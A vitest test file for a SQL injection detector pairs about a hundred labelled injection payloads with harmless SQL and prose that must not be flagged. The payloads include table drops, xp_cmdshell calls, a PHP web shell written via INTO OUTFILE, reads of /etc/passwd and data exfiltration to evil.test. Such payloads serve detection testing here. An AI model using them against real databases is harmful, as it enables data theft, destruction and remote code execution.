import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { findSqlInjection } from '../../../../src/detectors/sql/sql-injection.ts';

const rulesIn = (text: string): string[] => findSqlInjection(text).map((finding) => finding.rule);

const PAYLOADS: readonly (readonly [rule: string, text: string])[] = [
  ['tautology', 'x OR 1=1--'],
  ['tautology', "bob' or 'a'='a"],
  ['quote_break', "') or ('7'='7'--"],
  ['tautology', '1 or 1=1'],
  ['tautology', "' having 4=4--"],
  ['tautology', "search for name: bob' or '1'='1"],
  ['quote_break', '" or ""="'],
  ['comment_cut', "admin'--"],
  ['comment_cut', "root' #"],
  ['comment_cut', "1' ORDER BY 10--+"],
  ['union_select', "' UNION SELECT name, pass FROM users--"],
  ['union_select', '-1 UNION SELECT 1,2,3'],
  ['union_select', "' UnIoN/**/SeLeCt 1,2--"],
  ['union_select', '7 UNION ALL SELECT table_name FROM information_schema.tables'],
  ['time_based', '1 AND SLEEP(5)'],
  ['time_based', '1||pg_sleep(3)'],
  ['time_based', "id=5) waitfor delay '0:0:9'--"],
  ['stacked_query', "id=5;waitfor delay '0:0:9'--"],
  ['time_based', '1 or benchmark(5000000,md5(1))'],
  ['error_based', '5 and extractvalue(1,concat(0x7e,version()))'],
  ['blind', '1 AND (SELECT 1 FROM dual)=1'],
  ['stacked_query', '1; DROP TABLE users'],
  ['stacked_query', "x'; DELETE FROM students; --"],
  ['stacked_query', "; exec xp_cmdshell('dir')"],
  ['command_execution', "1 exec xp_cmdshell('dir')"],
  ['file_access', "' into outfile '/var/www/x.php'"],

  ['quote_break', "' OR 1=1 --"],
  ['comment_cut', "admin' #"],
  ['tautology', '1 OR 1=1'],
  ['tautology', "') OR ('x'='x"],
  ['quote_break', '" OR ""="'],
  ['stacked_query', "'; EXEC xp_cmdshell('dir'); --"],
  ['union_select', "' UNION SELECT NULL,NULL,NULL--"],
  ['union_select', '-1 UNION ALL SELECT 1,2,version()'],
  ['quote_break', "1' AND SLEEP(5)#"],
  ['blind', '1 AND (SELECT 4242 FROM (SELECT(SLEEP(5)))abcd)'],
  ['stacked_query', "1'; WAITFOR DELAY '0:0:5'--"],
  ['tautology', '1) AND 1=1 AND (1=1'],
  ['tautology', '1 AND 1=2'],
  ['union_select', '1/*!50000UNION*//*!50000SELECT*/1,2,3'],
  ['union_select', '1 UNION/*!50000SELECT*/ a, b'],
  ['quote_break', "' AND 1=CONVERT(int,(SELECT @@version))--"],
  ['error_based', '1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user())))'],
  ['quote_break', "' AND UPDATEXML(1,CONCAT(0x7e,database()),1)-- -"],
  [
    'blind',
    '1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
  ],
  ['quote_break', "'||(SELECT pg_sleep(5))--"],
  ['stacked_query', '1;SELECT pg_sleep(10)--'],
  ['blind', '1 AND 7=(SELECT 7 FROM PG_SLEEP(5))'],
  ['time_based', "' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)='a"],
  ['error_based', "'||UTL_HTTP.REQUEST('http://evil.test/'||user)||'"],
  ['union_select', "' UNION SELECT LOAD_FILE('/etc/passwd')--"],
  ['union_select', "' UNION SELECT '<?php system($_GET[0]);' INTO OUTFILE '/var/www/x.php'#"],
  ['union_select', '1 UNION/**/SELECT/**/1,2'],
  ['quote_break', "' oR 1=1/*"],
  ['quote_break', "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"],
  ['tautology', '1 AND IF(1=1,SLEEP(3),0)'],
  ['blind', '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))'],
  ['tautology', "1' HAVING 1=1--"],
  ['tautology', "1' GROUP BY users.id HAVING 1=1--"],
  ['quote_break', "x' AND email IS NULL; --"],
  ['stacked_query', "x'; INSERT INTO users VALUES('a','b');--"],
  ['stacked_query', "'; SHUTDOWN --"],
  ['quote_break', "' OR username LIKE '%a%"],
  ['quote_break', "' OR EXISTS(SELECT 1 FROM users)--"],
  ['error_based', '1 PROCEDURE ANALYSE(EXTRACTVALUE(1,1),1)'],
  ['quote_break', "' AND BENCHMARK(5000000,MD5(1))--"],
  ['stacked_query', "'; DECLARE @q VARCHAR(99); SET @q=0x633a; EXEC master.dbo.xp_dirtree @q--"],
  ['tautology', "1 OR 'unusual'='unusual'"],
  ['tautology', "' OR 2>1"],
  ['quote_break', "' or true--"],
  ['quote_break', '") or true--'],
  ['blind', '1 AND 1=(SELECT COUNT(*) FROM tabname); --'],
  ['time_based', '1 or sleep(5)#'],
  ['quote_break', '" or sleep(5)="'],
  ['quote_break', "1') AND ELT(1=1,SLEEP(5))-- x"],
  ['error_based', '1 AND ELT(1=1,SLEEP(5))'],
  ['time_based', '1 ORDER BY 1,SLEEP(3),7--'],
  ['error_based', '4 AND 12=CAST((SELECT user) AS INT)'],
  ['tautology', '-9 or 8>2--'],
  ['tautology', 'x or(5)=(5)'],
  ['stacked_query', '; drop table carts--'],
  ['union_select', 'UNION ALL SELECT SYSTEM_USER(),7'],
  ['blind', '2 or exists(select * from carts)'],
  ['blind', '2 and length(database())>3'],
  ['comment_cut', '9 ORDER BY 2;--'],
  ['union_select', '-5821 UNION ALL SELECT CONCAT(0x71,0x7a),NULL-- -'],
  ['quote_break', "1' AND (SELECT * FROM (SELECT(SLEEP(5)))x) AND 'a'='a"],
  ['union_select', "' AND 1=0 UNION ALL SELECT '', '81dc9bdb52d04dc20036dbd8313ed055"],
  ['error_based', '1 AND GTID_SUBSET(CONCAT(0x71,(SELECT 1)),1)'],
  ['quote_break', "'+(SELECT CHAR(65))+'"],
  ['quote_break', "' || 1=1 --"],
  ['tautology', "1' && '1'='1"],
  ['time_based', 'if(now()=sysdate(),sleep(5),0)'],
  ['blind', '1 AND (SELECT UPPER(XMLType(CHR(60)||CHR(58))) FROM DUAL) IS NOT NULL'],
  ['error_based', "1' PROCEDURE ANALYSE()#"],
  ['tautology', 'SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END'],
  ['union_select', 'UNION SELECT table_name FROM information_schema.tables--'],
  ['command_execution', "COPY (SELECT '') to program 'nslookup x.evil.test'"],
  ['error_based', 'AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1))'],
  ['time_based', 'ORDER BY SLEEP(5)'],
];

const HARMLESS = [
  'SELECT CAST(price AS INT) FROM items ORDER BY 1, 2',
  'SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u) AND LENGTH(name) > 5',
  'select id, sleep(1);',
  'while x < 3 or y > 4: pass',
  'if (a or len(b) > 2):',
  'Write me a SELECT with a JOIN on users and orders',
  'SELECT name FROM users WHERE id = 1',
  'SELECT a FROM t UNION SELECT b FROM u',
  "SELECT * FROM t WHERE a='x' AND b='y' ORDER BY 1;",
  'SELECT * FROM a WHERE id IN (SELECT id FROM b) AND (SELECT count(*) FROM c) > 0',
  'How does UNION SELECT differ from JOIN?',
  "DELETE FROM logs; INSERT INTO logs VALUES ('a');",
  'CREATE TABLE a (id int); DROP TABLE b;',
  'What is SQL injection and how do I prevent it?',
  'time.sleep(5)',
  'from time import sleep\nsleep(5)  # wait a bit',
  'await sleep(1000); // wait',
  'select pg_sleep(1);',
  'if (x == 1 || y == 1) return;',
  "x = 'abc'  # comment",
  "app.get('/*', handler)",
  "print('a') or print('b')",
  "const a = b || '';",
  "Don't worry -- it's fine",
  "rock 'n' roll or 'blues' -- your choice",
  'exit 1; exec "$@"',
  'the union selected a new leader',

  "What's the difference between a stacked query and a UNION based SQL injection?",
  'SELECT name FROM users WHERE id = 5 OR parent_id = 5;',
  "My query `SELECT * FROM orders WHERE status = 'open' AND total > 100 ORDER BY 2` is slow. Why?",
  'The previous owner disabled all safety features of this table saw; how do I restore them?',
  "UPDATE users SET active = 0 WHERE last_login < '2020-01-01'; -- clean up",
  'SELECT a FROM t UNION SELECT b FROM u;',
  'What does 1=1 in a WHERE clause do? I saw WHERE 1=1 in our ORM.',
  'I ate breakfast; drop by my table later and select a seat.',
  'If x = 1 or x = 2 then print(x)',
  'Sleep(5) in my C# code blocks the UI; how do I wait instead?',
  'DROP TABLE IF EXISTS tmp_orders;',
  'CREATE TABLE a (id INT); INSERT INTO a VALUES (1); SELECT * FROM a;',
  "Rock 'n' roll and 'or' gates: what's 1 or 1 in logic?",
  'Is `a or 1 > 0` always true in Python?',
  'print("yes" or name == "Bob")',
  "WHERE name = 'Bob' AND age > 5 AND city IS NOT NULL",
  'ALTER TABLE carts ADD note text\n;\nDROP TABLE old_carts\n;',
  '[cache]\npath=disk\n; delete from disk after an hour\n; shutdown takes a minute\nttl=9',
  '(defun tidy ()\n  ; drop table rows that are stale\n  (sweep))',
];

describe('SQL injection', () => {
  test.each(PAYLOADS)('%s is found: %s', (rule, text) => {
    expect(rulesIn(text)).toContain(rule);
  });

  test.each(HARMLESS)('ordinary SQL, code and prose have no finding: %j', (text) => {
    expect(findSqlInjection(text)).toEqual([]);
  });

  test('a finding spans the payload', () => {
    expect(findSqlInjection('user=x or 1=1 limit 3')).toEqual([
      { detector: 'sql_injection', class: 'sqli', rule: 'tautology', start: 7, end: 13 },
    ]);
  });

  test('prose on other lines does not hide a payload, and spans lie within the text', () => {
    const lines = fc.array(fc.constantFrom('Hello there.', "It's late", '', 'ends with a "quote"', '€ 5'), {
      maxLength: 6,
    });
    fc.assert(
      fc.property(lines, fc.constantFrom(...PAYLOADS), lines, (before, [, payload], after) => {
        const text = [...before, payload, ...after].join('\n');
        const found = findSqlInjection(text);
        expect(found).not.toEqual([]);
        for (const { start, end } of found) expect(text.slice(start, end)).toHaveLength(end - start);
      }),
    );
  });

  test('it never throws', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => Array.isArray(findSqlInjection(text))));
  });
});
